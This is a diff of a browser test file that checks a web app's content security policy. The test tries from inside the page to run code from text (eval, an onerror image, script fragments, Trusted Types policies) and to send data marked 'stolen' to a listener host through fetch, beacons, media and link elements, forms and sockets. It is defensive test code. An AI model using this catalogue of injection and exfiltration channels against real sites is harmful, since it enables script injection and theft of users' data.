@@ -320,113 +320,112 @@ test('a script that has the worker gets nothing of what is masked by any request
   });
 });
 
-test.describe('where the browser may hang when it is closed amid all that it was asked for', () => {
-  test.describe.configure({ retries: 1 });
-  test('a script in the page makes no code of text and sends nothing elsewhere by any request', async ({
-    page,
-  }) => {
-    await inSandbox((sandbox) =>
-      withListener(async (elsewhere, heard) => {
-        await signedIn(page, sandbox);
-        const ran = await page.evaluate(async (to) => {
-          // What the debugger evaluates may evaluate in its turn; what runs after it is held to the page's policy.
-          await new Promise((resolve) => setTimeout(resolve, 0));
-          const tries: Record<string, () => unknown> = {
-            eval: () => (Reflect.get(window, 'eval') as (text: string) => unknown)('window.ran = "eval"'),
-            Function: () => new Function('window.ran = "Function"')() as unknown,
-            timer: () => setTimeout('window.ran = "timer"' as unknown as () => void, 0),
-            markup: () => (document.body.innerHTML = '<img src=x onerror="window.ran=1">'),
-            fragment: () =>
-              document.body.append(
-                document.createRange().createContextualFragment('<script>window.ran=1</script>'),
-              ),
-            policy: () =>
-              (
-                Reflect.get(window, 'trustedTypes') as { createPolicy(name: string, rules: object): unknown }
-              ).createPolicy('mine', {
-                createHTML: (text: string) => text,
-                createScript: (text: string) => text,
-              }),
-            'the app’s own policy again': () =>
-              (
-                Reflect.get(window, 'trustedTypes') as { createPolicy(name: string, rules: object): unknown }
-              ).createPolicy('throughline-worker', { createScriptURL: (text: string) => text }),
-            'worker of text': () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
-            'base element': () => {
-              const base = document.createElement('base');
-              base.href = to;
-              document.head.append(base);
-              if (document.baseURI.startsWith(to)) throw new Error('moved');
-              return 'refused';
-            },
-          };
-          const done: string[] = [];
-          for (const [name, attempt] of Object.entries(tries)) {
-            try {
-              if (attempt() !== 'refused') done.push(name);
-            } catch {
-              // As it should be.
-            }
-          }
-          const element = (name: string, set: Record<string, string>): void => {
-            const made = document.createElement(name);
-            try {
-              for (const [key, value] of Object.entries(set)) made.setAttribute(key, value);
-            } catch {
-              // An address that loads code is refused as text.
-            }
-            document.body.append(made);
-          };
-          const refused = async (attempt: Promise<unknown>, name: string): Promise<void> =>
-            attempt.then(
-              () => void done.push(name),
-              () => undefined,
-            );
-          await refused(fetch(`${to}/fetch?stolen`), 'fetch');
-          await refused(fetch(`${to}/opaque?stolen`, { mode: 'no-cors' }), 'an opaque fetch');
-          await refused(import(`${to}/module.js`), 'a module');
-          await refused(navigator.serviceWorker.register('/config.json'), 'a service worker');
-          navigator.sendBeacon(`${to}/beacon?stolen`);
-          new Image().src = `${to}/image?stolen`;
-          for (const [name, set] of [
-            ['img', { src: `${to}/img?stolen`, srcset: `${to}/srcset?stolen` }],
-            ['iframe', { src: `${to}/frame?stolen` }],
-            ['object', { data: `${to}/object?stolen` }],
-            ['embed', { src: `${to}/embed?stolen` }],
-            ['video', { src: `${to}/video?stolen`, poster: `${to}/poster?stolen` }],
-            ['link', { rel: 'stylesheet', href: `${to}/style?stolen` }],
-            ['link', { rel: 'prefetch', href: `${to}/prefetch?stolen` }],
-            ['link', { rel: 'preload', as: 'image', href: `${to}/preload?stolen` }],
-            ['link', { rel: 'modulepreload', href: `${to}/modulepreload?stolen` }],
-            ['link', { rel: 'icon', href: `${to}/icon?stolen` }],
-            ['link', { rel: 'manifest', href: `${to}/manifest?stolen` }],
-            ['p', { style: `background-image: url(${to}/inline?stolen)` }],
-            ['p', { onclick: 'window.ran = "handler"', id: 'handler' }],
-          ] as const)
-            element(name, set);
-          document.getElementById('handler')?.click();
-          const form = document.createElement('form');
-          Object.assign(form, { action: `${to}/form?stolen`, method: 'post', target: '_self' });
-          document.body.append(form);
-          form.submit();
+test('a script in the page makes no code of text and sends nothing elsewhere by any request', async ({
+  page,
+}) => {
+  await inSandbox((sandbox) =>
+    withListener(async (elsewhere, heard) => {
+      await signedIn(page, sandbox);
+      const ran = await page.evaluate(async (to) => {
+        // What the debugger evaluates may evaluate in its turn; what runs after it is held to the page's policy.
+        await new Promise((resolve) => setTimeout(resolve, 0));
+        const tries: Record<string, () => unknown> = {
+          eval: () => (Reflect.get(window, 'eval') as (text: string) => unknown)('window.ran = "eval"'),
+          Function: () => new Function('window.ran = "Function"')() as unknown,
+          timer: () => setTimeout('window.ran = "timer"' as unknown as () => void, 0),
+          markup: () => (document.body.innerHTML = '<img src=x onerror="window.ran=1">'),
+          fragment: () =>
+            document.body.append(
+              document.createRange().createContextualFragment('<script>window.ran=1</script>'),
+            ),
+          policy: () =>
+            (
+              Reflect.get(window, 'trustedTypes') as { createPolicy(name: string, rules: object): unknown }
+            ).createPolicy('mine', {
+              createHTML: (text: string) => text,
+              createScript: (text: string) => text,
+            }),
+          'the app’s own policy again': () =>
+            (
+              Reflect.get(window, 'trustedTypes') as { createPolicy(name: string, rules: object): unknown }
+            ).createPolicy('throughline-worker', { createScriptURL: (text: string) => text }),
+          'worker of text': () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
+          'base element': () => {
+            const base = document.createElement('base');
+            base.href = to;
+            document.head.append(base);
+            if (document.baseURI.startsWith(to)) throw new Error('moved');
+            return 'refused';
+          },
+        };
+        const done: string[] = [];
+        for (const [name, attempt] of Object.entries(tries)) {
           try {
-            new WebSocket(`${to.replace('http', 'ws')}/socket?stolen`);
-            new EventSource(`${to}/events?stolen`);
+            if (attempt() !== 'refused') done.push(name);
           } catch {
-            // Refused at once by some, later by others.
+            // As it should be.
           }
-          await new Promise((resolve) => setTimeout(resolve, 1_500));
-          return { done, ran: Reflect.get(window, 'ran') as unknown };
-        }, elsewhere);
-        expect(ran.done).toEqual([]);
-        expect(ran.ran).toBeUndefined();
-        expect(heard).toEqual([]);
-        // It would be heard: leading the tab there is what no header forbids.
-        await page.evaluate((to) => void (location.href = `${to}/led?there`), elsewhere);
-        await expect.poll(() => heard).toContain('/led?there');
-      }),
-    );
-  });
+        }
+        const element = (name: string, set: Record<string, string>): void => {
+          const made = document.createElement(name);
+          try {
+            for (const [key, value] of Object.entries(set)) made.setAttribute(key, value);
+          } catch {
+            // An address that loads code is refused as text.
+          }
+          document.body.append(made);
+        };
+        const refused = async (attempt: Promise<unknown>, name: string): Promise<void> =>
+          attempt.then(
+            () => void done.push(name),
+            () => undefined,
+          );
+        await refused(fetch(`${to}/fetch?stolen`), 'fetch');
+        await refused(fetch(`${to}/opaque?stolen`, { mode: 'no-cors' }), 'an opaque fetch');
+        await refused(import(`${to}/module.js`), 'a module');
+        await refused(navigator.serviceWorker.register('/config.json'), 'a service worker');
+        navigator.sendBeacon(`${to}/beacon?stolen`);
+        new Image().src = `${to}/image?stolen`;
+        for (const [name, set] of [
+          ['img', { src: `${to}/img?stolen`, srcset: `${to}/srcset?stolen` }],
+          ['iframe', { src: `${to}/frame?stolen` }],
+          ['object', { data: `${to}/object?stolen` }],
+          ['embed', { src: `${to}/embed?stolen` }],
+          ['video', { src: `${to}/video?stolen`, poster: `${to}/poster?stolen` }],
+          ['link', { rel: 'stylesheet', href: `${to}/style?stolen` }],
+          ['link', { rel: 'prefetch', href: `${to}/prefetch?stolen` }],
+          ['link', { rel: 'preload', as: 'image', href: `${to}/preload?stolen` }],
+          ['link', { rel: 'modulepreload', href: `${to}/modulepreload?stolen` }],
+          ['link', { rel: 'icon', href: `${to}/icon?stolen` }],
+          ['link', { rel: 'manifest', href: `${to}/manifest?stolen` }],
+          ['p', { style: `background-image: url(${to}/inline?stolen)` }],
+          ['p', { onclick: 'window.ran = "handler"', id: 'handler' }],
+        ] as const)
+          element(name, set);
+        document.getElementById('handler')?.click();
+        const form = document.createElement('form');
+        Object.assign(form, { action: `${to}/form?stolen`, method: 'post', target: '_self' });
+        document.body.append(form);
+        form.submit();
+        try {
+          new WebSocket(`${to.replace('http', 'ws')}/socket?stolen`);
+          new EventSource(`${to}/events?stolen`);
+        } catch {
+          // Refused at once by some, later by others.
+        }
+        await new Promise((resolve) => setTimeout(resolve, 1_500));
+        return { done, ran: Reflect.get(window, 'ran') as unknown };
+      }, elsewhere);
+      expect(ran.done).toEqual([]);
+      expect(ran.ran).toBeUndefined();
+      expect(heard).toEqual([]);
+      // It would be heard: leading the tab there is what no header forbids.
+      await page.evaluate((to) => void (location.href = `${to}/led?there`), elsewhere);
+      await expect.poll(() => heard).toContain('/led?there');
+      // Arrived: a browser that is closed on its way somewhere may wait for a server that is gone.
+      await page.waitForURL(`${elsewhere}/led?there`);
+    }),
+  );
 });
 
 test('what is signed out is gone from the page’s memory, and so is what was opened and shown', async ({
